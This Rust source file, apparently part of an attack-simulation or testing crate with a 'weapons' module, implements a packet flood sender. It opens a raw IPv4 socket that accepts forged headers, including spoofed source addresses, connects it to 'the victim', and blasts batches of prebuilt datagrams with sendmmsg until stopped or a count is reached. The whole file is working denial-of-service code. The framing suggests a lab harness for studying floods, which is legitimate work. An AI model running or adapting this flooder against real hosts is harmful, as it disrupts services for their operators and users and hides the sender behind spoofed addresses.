//! The sender of a flood: one thread that sends as fast as it gets to.

use std::io::IoSlice;
use std::net::SocketAddrV4;
use std::os::fd::AsRawFd as _;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
use std::thread::JoinHandle;

use anyhow::{Context as _, Result, anyhow, ensure};
use nix::errno::Errno;
use nix::libc;
use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg};
use nix::unistd::gettid;
use socket2::{Domain, Protocol, Socket, Type};

use crate::weapons::Magazine;

/// Datagrams in a system call.
const BATCH: usize = 64;

/// What is done in the thread of a flood.
pub(crate) type Work = Box<dyn FnOnce() -> Result<()> + Send>;

/// A flood that runs until it is dropped, or has sent as many datagrams as it may.
pub(crate) struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Result<()>>>,
}

impl Flood {
    /// Begins in a thread that `spawn` makes in the attacker's network, with this niceness. `index` is that of a live session,
    /// which may change.
    pub(crate) fn begin(
        mut magazine: Magazine,
        index: Arc<AtomicU32>,
        nice: i8,
        most: u64,
        spawn: impl FnOnce(Work) -> Result<JoinHandle<Result<()>>>,
    ) -> Result<Self> {
        let (stop, sent) = (Arc::<AtomicBool>::default(), Arc::<AtomicU64>::default());
        let (told, counter) = (Arc::clone(&stop), Arc::clone(&sent));
        let thread = spawn(Box::new(move || {
            set_nice(nice)?;
            let socket = open(magazine.target())?;
            while !told.load(Ordering::Relaxed) && counter.load(Ordering::Relaxed) < most {
                let sent = fire(&socket, magazine.load(BATCH, index.load(Ordering::Relaxed)))?;
                counter.fetch_add(sent as u64, Ordering::Relaxed);
            }
            Ok(())
        }))?;
        Ok(Self { stop, sent, thread: Some(thread) })
    }

    /// Datagrams so far.
    pub(crate) fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends it.
    pub(crate) fn end(mut self) -> Result<()> {
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().context("it ends once")?;
        thread.join().map_err(|_| anyhow!("the flood is gone"))?
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

fn set_nice(nice: i8) -> Result<()> {
    let thread = gettid().to_string();
    let renice = Command::new("renice").args(["-n", &nice.to_string(), "-p", &thread]).output();
    ensure!(renice.context("no `renice`")?.status.success(), "the flood cannot be {nice} nice");
    Ok(())
}

/// A socket that takes IPv4 headers from us, source and all.
fn open(target: SocketAddrV4) -> Result<Socket> {
    let raw = Protocol::from(libc::IPPROTO_RAW);
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(raw)).context("no raw socket")?;
    socket.connect(&target.into()).context("no way to the victim")?;
    Ok(socket)
}

/// Sends these packets; how many left.
fn fire(socket: &Socket, packets: &[Vec<u8>]) -> Result<usize> {
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(packets.len(), None);
    let slices: Vec<_> = packets.iter().map(|packet| [IoSlice::new(packet)]).collect();
    let nowhere_else = [None; BATCH];
    match sendmmsg(socket.as_raw_fd(), &mut headers, &slices, nowhere_else, [], MsgFlags::empty()) {
        Ok(results) => Ok(results.count()),
        Err(Errno::ENOBUFS | Errno::EAGAIN) => Ok(0),
        Err(errno) => Err(errno).context("the flood cannot be sent"),
    }
}
